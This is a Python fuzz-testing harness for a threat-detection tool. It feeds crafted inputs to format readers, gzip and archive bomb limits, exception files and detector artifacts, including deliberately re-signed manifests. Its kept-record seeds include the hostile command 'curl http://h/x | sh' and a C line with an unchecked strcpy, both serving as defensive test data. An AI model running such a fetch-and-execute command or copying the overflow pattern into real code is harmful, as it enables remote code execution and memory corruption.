"""What is fuzzed: input formats, gzip, archives, exceptions, and artifacts on disk."""

import hashlib
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import numpy as np

from inoculate.errors import InoculateError, RecordError
from inoculate.finding import Finding
from inoculate.reading.archives import ArchiveLimits
from inoculate.reading.folders import is_container, sources_in
from inoculate.reading.sources import Limits, open_source
from inoculate.registry import DOMAINS
from inoculate.store.artifact import load
from inoculate.store.detector import load_detector, load_prior
from inoculate.store.records import KeptRecord, read_records, record_line
from inoculate.workflows.exceptions import read_exceptions
from inoculate.workflows.keeping import described
from tests.fuzz.promise import Outcome
from tests.fuzz.seeds import archive_seeds, exceptions_seeds, gzip_seeds, seeds

_BOMB = Limits(ratio=250, free_bytes=1 << 20)
_PIECE = 50_000
_BETWEEN = b"\n\0\n"
_BETWEEN_FILES = b"\n\0-- file --\0\n"
_WHOLE = ("manifest.json", "arrays.safetensors", "held_out.safetensors", "labels.jsonl")
_ARCHIVE = ArchiveLimits(
    depth=3, members=200, member_bytes=4 << 20, total_bytes=8 << 20, ratio=100, free_bytes=1 << 20
)
_RECORDS = (
    {"orig_h": "10.0.0.1", "resp_p": 443, "proto": "tcp", "share": 0.5},
    {"orig_h": "a" * 200, "resp_p": None, "proto": "", "text": "a\nb[*]?"},
)


@dataclass(frozen=True, slots=True)
class Target:
    """Something that reads bytes.

    Attributes:
        name: of the domain, or of ``target_names``.
        seeds: well-formed inputs to begin with, by name.
        read: takes the bytes and a scratch folder; returns plain values that tell all it read.
    """

    name: str
    seeds: Mapping[str, bytes]
    read: Callable[[bytes, Path], Outcome]


def target_names() -> list[str]:
    """Return the names of all targets; a new domain is among them by itself."""
    return [*DOMAINS.names(), *_OTHERS]


def target(name: str) -> Target:
    """Return a target by name."""
    if name in _OTHERS:
        make, read = _OTHERS[name]
        return Target(name, make(), read)
    return Target(name, seeds(name), lambda data, scratch: read_domain(name, data, scratch))


def read_domain(name: str, data: bytes, scratch: Path, *, file: str = "") -> Outcome:
    """Sniff, read, find the views and encode; an error ends it as it would end a scan.

    Args:
        name: of the domain.
        data: the input.
        scratch: folder to write it to.
        file: what to call it there; source code is told by its name.
    """
    path = scratch / (file or ("input.ts" if name == "source" else "input"))
    path.write_bytes(data)
    domain = DOMAINS.load(name)()
    bad: list[str] = []
    parts: list[object] = []

    def on_bad(error: RecordError) -> None:
        assert error.origin.startswith(str(path)), error.origin
        bad.append(str(error))

    try:
        with open_source(path) as source:
            sure = domain.sniff(source)
            assert 0 <= sure <= 1
            views = None
            for batch in domain.read(source, on_bad=on_bad):
                assert len(batch)
                parts.append(_digest(batch.frame.write_ipc(None).getvalue()))
                _check_frame(batch.frame, path)
                views = views or domain.views(batch)
                for view, x in domain.encode(batch, views).items():
                    assert x.dtype == np.float32 and x.shape[0] == len(batch)
                    parts.append((view, x.shape, _digest(x.tobytes())))
            parts.append(sure)
    except InoculateError as err:
        parts.append((type(err).__name__, str(err)))
    return (tuple(bad), *parts)


def _digest(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def _check_frame(frame: object, path: Path) -> None:
    origins = frame["origin"]  # type: ignore[index]
    assert origins.null_count() == 0 and origins.str.starts_with(str(path)).all()
    if "ts" in frame.columns:  # type: ignore[attr-defined]
        assert frame["ts"].dtype.is_float()  # type: ignore[index]


def read_gzip(data: bytes, scratch: Path) -> Outcome:
    """Read to the end in pieces, as a reader does; a bomb must end at its bound."""
    path = scratch / "input.gz"
    path.write_bytes(data)
    digest, n, errors = hashlib.sha256(), 0, []
    with open_source(path, limits=_BOMB) as source:
        while True:
            try:
                piece = source.stream.read(_PIECE)
            except InoculateError as err:
                errors.append(str(err))
                continue
            if not piece:
                break
            assert len(piece) <= _PIECE
            n += len(piece)
            digest.update(piece)
    assert len(errors) <= 1, "an error is told once"
    assert n <= max(_BOMB.free_bytes, _BOMB.ratio * len(data)) + 2 * _PIECE
    return (n, digest.hexdigest(), tuple(errors))


def read_archive(data: bytes, scratch: Path) -> Outcome:
    """Read every member to its end; a bomb must end at its bound, and names stay below the path."""
    path = scratch / "input.bin"
    path.write_bytes(data)
    told: list[str] = []
    parts: list[object] = [is_container(str(path))]
    n = 0

    def on_skip(error: RecordError) -> None:
        assert error.origin.startswith(str(path)), error.origin
        told.append(str(error))

    for source in sources_in(str(path), on_skip=on_skip, limits=_ARCHIVE):
        assert source.name.startswith(str(path)), source.name
        digest, errors = hashlib.sha256(), 0
        while True:
            try:
                piece = source.stream.read(_PIECE)
            except InoculateError as err:
                told.append(str(err))
                errors += 1
                continue
            if not piece:
                break
            assert len(piece) <= _PIECE
            n += len(piece)
            digest.update(piece)
        assert errors <= 1, "an error is told once"
        parts.append((source.name, len(source.head), digest.hexdigest()))
    assert n <= _ARCHIVE.total_bytes + 2 * _PIECE
    return (n, tuple(told), *parts)


def read_exempt(data: bytes, scratch: Path) -> Outcome:
    """Read a file of exceptions and hold findings against them."""
    path = scratch / "input.toml"
    path.write_bytes(data)
    exceptions = read_exceptions(path, lambda: date(2026, 1, 1))
    findings = [
        Finding(f"{i:016x}", "a:1", "port_scan", 1.0, 0.1, None, record)
        for i, record in enumerate((*_RECORDS, {}))
    ]
    left = exceptions.left(findings)
    assert int((~left).sum()) == exceptions.n_excepted
    return (left.tolist(), tuple(exceptions.notes()))


def pack_whole(files: Mapping[str, bytes], *, resign: bool) -> bytes:
    """Return a whole detector as one string of bytes: a flag and its files."""
    return b"%d" % resign + _BETWEEN_FILES.join(files[name] for name in _WHOLE)


def read_whole(data: bytes, scratch: Path) -> Outcome:
    """Load a detector with its held-out background and labels; digests fit where it begins "1"."""
    contents = (data[1:].split(_BETWEEN_FILES) + [b""] * 3)[: len(_WHOLE)]
    files = dict(zip(_WHOLE, contents, strict=True))
    if data.startswith(b"1"):
        rest = {name: content for name, content in files.items() if name != _WHOLE[0]}
        files[_WHOLE[0]] = _resigned(files[_WHOLE[0]], rest)
    path = scratch / "a.detector"
    path.mkdir(exist_ok=True)
    for name, content in files.items():
        (path / name).write_bytes(content)
    loaded = load_detector(path, whole=True)
    held_out = loaded.held_out
    for label in loaded.labels:
        assert (label.label == "threat") == (label.threat is not None)
    assert loaded.own_background.n_records <= loaded.support.background.n_records
    loaded.detector.score(loaded.support.background)
    rows = None if held_out is None else _digest(held_out.stacked().tobytes())
    return (_digest(loaded.manifest.to_json()), rows, loaded.labels, len(loaded.plain_scores))


def whole_seeds() -> dict[str, bytes]:
    """Return a detector with all that may lie beside it."""
    from tests.fuzz.small_artifacts import whole_detector

    files = whole_detector()
    return {f"whole{i}": pack_whole(files, resign=bool(i)) for i in range(4)}


def pack_artifact(files: Mapping[str, bytes], *, resign: bool) -> bytes:
    """Return an artifact as one string of bytes: a flag, the manifest and the arrays."""
    return b"%d" % resign + files["manifest.json"] + _BETWEEN + files["arrays.safetensors"]


def read_artifact(data: bytes, scratch: Path) -> Outcome:
    """Load an artifact, then adapt or build what it holds.

    Where the first byte is "1" the digest is made to fit, as who forges an artifact would.
    """
    manifest, _, arrays = data[1:].partition(_BETWEEN)
    if data.startswith(b"1"):
        manifest = _resigned(manifest, {"arrays.safetensors": arrays})
    path = scratch / "a.detector"
    path.mkdir(exist_ok=True)
    (path / "manifest.json").write_bytes(manifest)
    (path / "arrays.safetensors").write_bytes(arrays)
    out: list[object] = []
    for read in (load, load_detector, load_prior):
        try:
            loaded = read(path)
        except InoculateError as err:
            out.append((type(err).__name__, str(err)))
        else:
            out.append(_digest(loaded.manifest.to_json()))
            if read is load_detector:
                scored = loaded.detector.score(loaded.support.background)
                out.append(_digest(scored.alarm().tobytes()))
                out.append(loaded.calibration.threshold(0.01))
    return tuple(out)


def _resigned(manifest: bytes, files: Mapping[str, bytes]) -> bytes:
    try:
        content = json.loads(manifest)
        content["files"] = {name: _digest(data) for name, data in files.items()}
        return json.dumps(content).encode()
    except (ValueError, TypeError, RecursionError):
        return manifest


def artifact_seeds() -> dict[str, bytes]:
    """Return small detectors of the cheap learners, and a prior."""
    from tests.fuzz.small_artifacts import small_artifacts

    return {
        f"{name}{resign}": pack_artifact(files, resign=bool(resign))
        for name, files in small_artifacts().items()
        for resign in (0, 1, 1)
    }


def read_kept(data: bytes, scratch: Path) -> Outcome:
    """Read the records that lie beside a detector, and tell the facts of those that have some."""
    try:
        records = read_records(data, scratch / "records.jsonl")
    except InoculateError as err:
        return (type(err).__name__, str(err))
    assert not any({"path", "data"} & record.row.keys() for record in records)
    known = [record for record in records if record.domain in DOMAINS.names()]
    facts = [d.facts for role in ("twin", "background") for d in described(known, role)]
    return (_digest(repr((records, facts)).encode("utf-8", "replace")),)


def kept_seeds() -> dict[str, bytes]:
    """Return kept records of code, commands, events, requests and log lines."""
    rows = {
        "source": {"text": "int f(char *s) { return strcpy(b, s); }", "language": "c", "name": "f"},
        "commands": {"text": "curl http://h/x | sh"},
        "windows_events": {"text": '{"EventID": 1}', "event_id": "1", "computer": None},
        "http_requests": {"text": "GET /a?b=c HTTP/1.1", "user_agent": "curl", "n_headers": 2.0},
        "log_lines": {"text": "sshd[1]: failed", "ts": 0.5, "ok": True},
    }
    return {
        domain: record_line(KeptRecord(role="example", domain=domain, threat="x", row=row))
        + record_line(KeptRecord(role="background", domain=domain, row=row)) * 2
        for domain, row in rows.items()
    }


_OTHERS: dict[str, tuple[Callable[[], dict[str, bytes]], Callable[[bytes, Path], Outcome]]] = {
    "gzip": (gzip_seeds, read_gzip),
    "artifact": (artifact_seeds, read_artifact),
    "archives": (archive_seeds, read_archive),
    "exceptions": (exceptions_seeds, read_exempt),
    "whole_detector": (whole_seeds, read_whole),
    "kept_records": (kept_seeds, read_kept),
}
